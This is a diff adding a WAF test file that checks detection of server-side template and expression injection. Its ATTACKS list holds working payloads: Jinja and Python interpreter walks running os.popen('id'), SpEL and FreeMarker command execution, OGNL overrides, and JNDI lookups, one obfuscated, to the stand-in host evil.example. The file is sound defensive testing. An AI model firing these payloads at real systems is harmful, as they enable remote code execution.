@@ -1,0 +1,54 @@
+import { expect } from 'chai';
+import { missed, rulesOf, wronglyBlocked } from './helpers.js';
+
+const ATTACKS = [
+  '{{7*7}}',
+  '${7*7}',
+  '<%= 7*7 %>',
+  '#{7*7}',
+  '{{config}}',
+  '{{self}}',
+  "{{''.__class__.__mro__[1].__subclasses__()}}",
+  "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
+  "${T(java.lang.Runtime).getRuntime().exec('id')}",
+  '*{7*7}',
+  '{php}echo `id`;{/php}',
+  '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
+  '#set($x=7*7)${x}',
+  '${{7*7}}',
+  "{{7*'7'}}",
+  '${jndi:ldap://evil.example/a}',
+  '${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/x}',
+  "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
+  "{{constructor.constructor('alert(1)')()}}",
+  "{{cycler.__init__.__globals__.os.popen('id').read()}}",
+  '@(7*7)',
+];
+
+const LOOK_ALIKES = [
+  '{{name}}',
+  'Hello {{ first_name }}, your order is ready',
+  '${price}',
+  '#{order_id}',
+  '{% if in_stock %}',
+  '{% $NUM_VIEWS|STRING_FORMAT:"%D" %} VUES',
+  '5*5 tile',
+  '{"items":[{"id":1,"qty":2}]}',
+  'Save 50% {today only}',
+  'email me @ john',
+];
+
+describe('waf template / expression injection', () => {
+  it('blocks template probes, interpreter walks, OGNL/SpEL and JNDI lookups', () => {
+    expect(missed(ATTACKS)).to.deep.equal([]);
+  });
+
+  it('passes placeholders and braces without an expression body', () => {
+    expect(wronglyBlocked(LOOK_ALIKES)).to.deep.equal([]);
+  });
+
+  it('names the technique', () => {
+    expect(rulesOf('{{7*7}}', 'ssti')).to.include('ssti.arithmetic-probe');
+    expect(rulesOf('${jndi:dns://x}', 'ssti')).to.include('ssti.jndi-lookup');
+  });
+});
